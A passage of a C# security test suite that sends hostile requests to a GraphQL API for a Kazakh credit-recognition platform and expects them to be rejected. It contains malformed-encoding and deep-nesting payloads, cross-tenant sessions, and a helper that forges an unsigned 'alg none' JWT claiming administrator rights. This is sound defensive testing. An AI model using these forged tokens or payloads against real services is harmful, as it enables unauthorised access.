        }, HttpStatusCode.NotAcceptable, "NOT_ACCEPTABLE"));
        cases.Add(new HostileCase("encoding/invalid-utf8", _ => Bytes([.. Encoding.UTF8.GetBytes("{\"query\":\"{ platform { name } }\",\"variables\":{\"x\":\""), 0xC3, 0x28, 0xFF, .. Encoding.UTF8.GetBytes("\"}}")]),
            HttpStatusCode.BadRequest, "INVALID_ENCODING"));
        cases.Add(new HostileCase("encoding/overlong-utf8", _ => Bytes([.. Encoding.UTF8.GetBytes("{\"query\":\"{ platform { name } }\",\"variables\":{\"x\":\""), 0xC0, 0xAF, .. Encoding.UTF8.GetBytes("\"}}")]),
            HttpStatusCode.BadRequest, "INVALID_ENCODING"));
        cases.Add(new HostileCase("encoding/raw-nul", _ => Bytes([.. Encoding.UTF8.GetBytes("{\"query\":\"{ platform { name } }\",\"variables\":{\"x\":\"a"), 0x00, .. Encoding.UTF8.GetBytes("b\"}}")]),
            HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(new HostileCase("encoding/nul-in-document", _ => Bytes(Encoding.UTF8.GetBytes("{\"query\":\"{ platform { name } }\\u0000\"}")),
            HttpStatusCode.BadRequest, "INVALID_ENCODING"));
        cases.Add(new HostileCase("encoding/utf16-body", _ => new HttpRequestMessage(HttpMethod.Post, "/graphql")
        {
            Content = new ByteArrayContent(Encoding.Unicode.GetBytes("{\"query\":\"{ platform { name } }\"}")) { Headers = { ContentType = new MediaTypeHeaderValue("application/json") } },
        }, HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(new HostileCase("encoding/malformed-json", _ => Bytes(Encoding.UTF8.GetBytes("{\"query\": \"{ platform }")), HttpStatusCode.BadRequest, "BAD_REQUEST"));
        cases.Add(new HostileCase("encoding/deep-json", _ => Bytes(Encoding.UTF8.GetBytes("{\"query\":\"{ platform { name } }\",\"variables\":{\"x\":" + new string('[', 5_000) + new string(']', 5_000) + "}}")),
            HttpStatusCode.BadRequest, "BAD_REQUEST"));
    }

    // ---- The operations under attack, with valid variables.

    private static IEnumerable<Operation> Operations() =>
    [
        RegisterOperation(), PeriodOperation(), ProgrammeOperation(), EstablishOperation(), ReconstituteOperation(),
        SubmitOperation(), StartReviewOperation(), ComparisonOperation(), DecideOperation(), WithdrawOperation(),
        FeedCertificateOperation(), PublishOperation(), FeedOperation(),
    ];

    private static Operation RegisterOperation() => new("registerInstitution", Api.Operations.RegisterInstitution, Caller.Registrar,
        f => Node(new { bin = f.World.Bin, input = new { names = new { kazakh = "Атауы", russian = "Название", english = "Name" }, kinds = new[] { "HIGHER" }, region = "ASTANA_CITY", policy = new { gradeScaleId = "point-rating-with-fx", maxRecognisedCreditsPerApplication = 30 } } }),
        ["input.names.kazakh", "input.names.russian", "input.names.english", "input.policy.gradeScaleId"],
        [("bin", "digits")]);

    private static Operation PeriodOperation() => new("setAcademicPeriod", Api.Operations.SetAcademicPeriod, Caller.Registrar,
        f => Node(new { bin = f.World.Bin, input = new { id = "2031-spring", name = "Spring 2031", startDate = "2031-02-01", endDate = "2031-06-30" } }),
        ["input.name"],
        [("bin", "digits"), ("input.id", "code")]);

    private static Operation ProgrammeOperation() => new("upsertProgramme", Api.Operations.UpsertProgramme, Caller.Registrar,
        f => Node(new
        {
            bin = f.World.Bin,
            input = new
            {
                code = "6B06199",
                name = "Hostile programme",
                level = "HIGHER",
                units = new[] { new { code = "HX-1", name = "Unit", kind = "DISCIPLINE", credits = 5, objectives = new[] { "Objective" }, outcomes = new[] { new { id = "O1", description = "Does" } }, content = "Content", qualificationLevel = (int?)null } },
            },
        }),
        ["input.name", "input.units.0.name", "input.units.0.objectives.0", "input.units.0.outcomes.0.description", "input.units.0.content"],
        [("bin", "digits"), ("input.code", "code"), ("input.units.0.code", "code"), ("input.units.0.outcomes.0.id", "code")]);

    private const string EstablishWithCode = """
        mutation EstablishCommission($bin: String!, $code: String, $input: ConstituteCommissionInput!) {
          establishCommission(bin: $bin, code: $code, input: $input) { id }
        }
        """;

    private static object Constitution() => new
    {
        order = new { number = "9-НҚ", date = "2025-08-21", signatoryName = "Serik Omarov", signatoryCapacity = "FIRST_HEAD" },
        members = new[]
        {
            new { name = ApiWorld.Chair, position = "Vice-rector", role = "CHAIR", subjectId = "chair-subject" },
            new { name = "Dana Seitova", position = "Registrar", role = "SECRETARY", subjectId = "secretary-subject" },
        },
    };

    private static Operation EstablishOperation() => new("establishCommission", EstablishWithCode, Caller.Head,
        f => Node(new { bin = f.World.Bin, code = "second", input = Constitution() }),
        ["input.order.number", "input.order.signatoryName", "input.members.0.name", "input.members.0.position", "input.members.0.subjectId"],
        [("bin", "digits"), ("code", "code")]);

    private static Operation ReconstituteOperation() => new("reconstituteCommission", Api.Operations.ReconstituteCommission, Caller.Head,
        f => Node(new { commissionId = f.World.CommissionId, input = Constitution() }),
        [],
        [("commissionId", "code")]);

    private static Operation SubmitOperation() => new("submitApplication", Api.Operations.SubmitApplication, Caller.Learner,
        f => Node(new { input = f.World.Application(f.LearnerIin, ApiWorld.Coursera(f.LearnerIin, "HOSTILE-1"), key: "hostile-key") }),
        [
            "input.learnerName", "input.addressedTo", "input.statement", "input.documents.0.certificate.issuerName",
            "input.documents.0.certificate.platform", "input.documents.0.certificate.number", "input.documents.0.certificate.holderName",
            "input.documents.0.certificate.verificationUrl", "input.documents.0.certificate.appendix.0.name",
            "input.documents.0.certificate.appendix.0.grade.letter",
        ],
        [
            ("input.learnerIin", "digits"), ("input.institutionBin", "digits"), ("input.documents.0.certificate.holderIin", "digits"),
            ("input.programmeCode", "code"), ("input.academicPeriodId", "code"), ("input.unitCodes.0", "code"), ("input.idempotencyKey", "key"),
        ]);

    private const string StartReviewWithVersion = """
        mutation StartReview($id: ID!, $expectedVersion: Int) { startReview(applicationId: $id, expectedVersion: $expectedVersion) { id } }
        """;

    private static Operation StartReviewOperation() => new("startReview", StartReviewWithVersion, Caller.Chair,
        f => Node(new { id = f.ApplicationId, expectedVersion = (int?)null }),
        [],
        [("id", "uuid")]);

    private static Operation ComparisonOperation() => new("recordComparison", Api.Operations.RecordComparison, Caller.Chair,
        f => Node(new { id = f.ApplicationId, input = new { unitCode = "ML-3301", documentIndex = 0, appendixEntryName = "Machine Learning", contentMatches = true, objectivesMatch = true, coveredOutcomeIds = new[] { "ML1" }, notes = "Notes" } }),
        ["input.appendixEntryName", "input.notes"],
        [("id", "uuid"), ("input.unitCode", "code"), ("input.coveredOutcomeIds.0", "code")]);

    private static Operation DecideOperation() => new("decideApplication", Api.Operations.DecideApplication, Caller.Chair,
        f => Node(new
        {
            id = f.ApplicationId,
            input = new
            {
                protocol = new { number = "5", date = "2025-08-28", membersPresent = new[] { ApiWorld.Chair, "Dana Seitova" } },
                decisions = new[] { new { unitCode = "ML-3301", recognised = false, credits = (decimal?)null, reason = "Not covered" } },
            },
        }),
        ["input.protocol.number", "input.protocol.membersPresent.0", "input.decisions.0.reason"],
        [("id", "uuid"), ("input.decisions.0.unitCode", "code")]);

    private static Operation WithdrawOperation() => new("withdrawApplication", Api.Operations.WithdrawApplication, Caller.Learner,
        f => Node(new { id = f.ApplicationId, reason = "Changed my mind" }),
        ["reason"],
        [("id", "uuid")]);

    private static Operation FeedCertificateOperation() => new("registerVerifiedCertificate", Api.Operations.RegisterVerifiedCertificate, Caller.Feed,
        f => Node(new
        {
            input = new
            {
                documentKind = "NON_FORMAL_EDUCATION_CERTIFICATE",
                issuerKind = "ELECTRONIC_LABOUR_EXCHANGE",
                issuerName = "Enbek.kz electronic labour exchange",
                number = "ENB-HOSTILE-1",
                issueDate = "2025-06-20",
                holderName = "Aigerim Sultanova",
                holderIin = f.LearnerIin,
                appendix = new[] { new { name = "Data analysis", hours = 72, grade = new { kind = "PERCENT", value = 87 } } },
                inDemandProfession = ApiWorld.DataAnalyst,
                trainingProvider = "Astana IT training centre",
            },
        }),
        ["input.issuerName", "input.number", "input.holderName", "input.trainingProvider"],
        [("input.holderIin", "digits"), ("input.inDemandProfession", "code")]);

    private static Operation PublishOperation() => new("publishInDemandProfessions", Api.Operations.PublishInDemandProfessions, Caller.Feed,
        _ => Node(new { year = 2026, professions = new[] { new { code = "2511-0-99", nameKk = "Талдаушы", nameRu = "Аналитик", classifierCodes = new[] { "2511" } } } }),
        ["professions.0.nameKk", "professions.0.nameRu", "professions.0.classifierCodes.0"],
        [("professions.0.code", "code")]);

    private static Operation FeedOperation() => new("feedCertificates", Api.Operations.FeedCertificates, Caller.Feed,
        _ => Node(new { key = "hostile-batch", records = new[] { FeedRecord("ENB-HOSTILE-2") } }),
        ["records.0.number", "records.0.learnerName", "records.0.courseName", "records.0.grade", "records.0.trainingProvider", "records.0.learnerIin", "records.0.professionCode", "records.0.issueDate"],
        [("key", "key")]);

    private static JsonObject FeedRecord(string number) => Node(ApiWorld.FeedRecord("010517500019", number));

    // ---- Building requests.

    private static HostileCase Post(string name, Operation operation, HttpStatusCode status, string code, Action<JsonObject> change, bool otherTenant = false) =>
        new(name, fixture =>
        {
            var variables = operation.Variables(fixture);
            change(variables);
            return PostRequest(operation.Document, variables, operation.Caller, fixture, otherTenant);
        }, status, code);

    private static HostileCase Query(string name, Caller caller, string document, Func<HostileFixture, JsonObject>? variables,
        HttpStatusCode status, string code, bool otherTenant = false) =>
        new(name, fixture => PostRequest(document, variables?.Invoke(fixture), caller, fixture, otherTenant), status, code);

    private static HostileCase Raw(string name, Caller caller, string body, HttpStatusCode status, string code) =>
        new(name, fixture =>
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "/graphql") { Content = Json(body) };
            request.Headers.TryAddWithoutValidation("Accept", GraphQLHttp.GraphQLResponse);
            Session(caller, fixture, otherTenant: false)?.Authenticate(request);
            return request;
        }, status, code);

    private static HttpRequestMessage PostRequest(string document, JsonObject? variables, Caller? caller, HostileFixture? fixture, bool otherTenant = false)
    {
        var body = new JsonObject { ["query"] = document };
        if (variables is not null)
        {
            body["variables"] = variables;
        }

        var text = body.ToJsonString().Replace($"\"{SurrogateMarker}\"", "\"x\\ud800y\"", StringComparison.Ordinal);
        var request = new HttpRequestMessage(HttpMethod.Post, "/graphql") { Content = Json(text) };
        request.Headers.TryAddWithoutValidation("Accept", GraphQLHttp.GraphQLResponse);
        if (caller is { } who && fixture is not null)
        {
            Session(who, fixture, otherTenant)?.Authenticate(request);
        }

        return request;
    }

    private static ApiSession? Session(Caller caller, HostileFixture fixture, bool otherTenant)
    {
        var bin = otherTenant ? fixture.OtherBin : fixture.World.Bin;
        var iin = otherTenant ? "030314601238" : fixture.LearnerIin;
        return caller switch
        {
            Caller.Registrar => fixture.As(ActorRole.Registrar, bin: bin),
            Caller.Head => fixture.As(ActorRole.Head, bin: bin),
            Caller.Chair => fixture.As(ActorRole.CommissionChair, bin: bin),
            Caller.Learner => fixture.As(ActorRole.Learner, iin: iin),
            Caller.Feed => fixture.As(ActorRole.ExchangeFeed),
            Caller.Administrator => fixture.As(ActorRole.PlatformAdministrator),
            _ => null,
        };
    }

    private static StringContent Json(string body)
    {
        var content = new StringContent(body, Encoding.UTF8);
        content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        return content;
    }

    private static HttpRequestMessage Bytes(byte[] body)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, "/graphql")
        {
            Content = new ByteArrayContent(body) { Headers = { ContentType = new MediaTypeHeaderValue("application/json") } },
        };
        request.Headers.TryAddWithoutValidation("Accept", GraphQLHttp.GraphQLResponse);
        return request;
    }

    private static JsonObject Node(object value) => JsonSerializer.SerializeToNode(value)!.AsObject();

    /// <summary>Sets the value at a dotted path ("input.units.0.code"), creating objects on the way.</summary>
    private static void Set(JsonObject root, string path, JsonNode? value)
    {
        var parts = path.Split('.');
        JsonNode current = root;
        for (var i = 0; i < parts.Length - 1; i++)
        {
            current = current is JsonArray array ? array[int.Parse(parts[i], System.Globalization.CultureInfo.InvariantCulture)]! : current[parts[i]] ??= new JsonObject();
        }

        if (current is JsonArray list)
        {
            list[int.Parse(parts[^1], System.Globalization.CultureInfo.InvariantCulture)] = value;
        }
        else
        {
            current[parts[^1]] = value;
        }
    }

    private static string AlgNone()
    {
        static string Encode(string json) => Convert.ToBase64String(Encoding.UTF8.GetBytes(json)).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        var exp = DateTimeOffset.UtcNow.AddHours(1).ToUnixTimeSeconds();
        return $"{Encode("""{"alg":"none","typ":"JWT"}""")}.{Encode($$"""{"sub":"admin","role":"PlatformAdministrator","iss":"national-recognition-local","aud":"national-recognition","exp":{{exp}}}""")}.";
    }
}
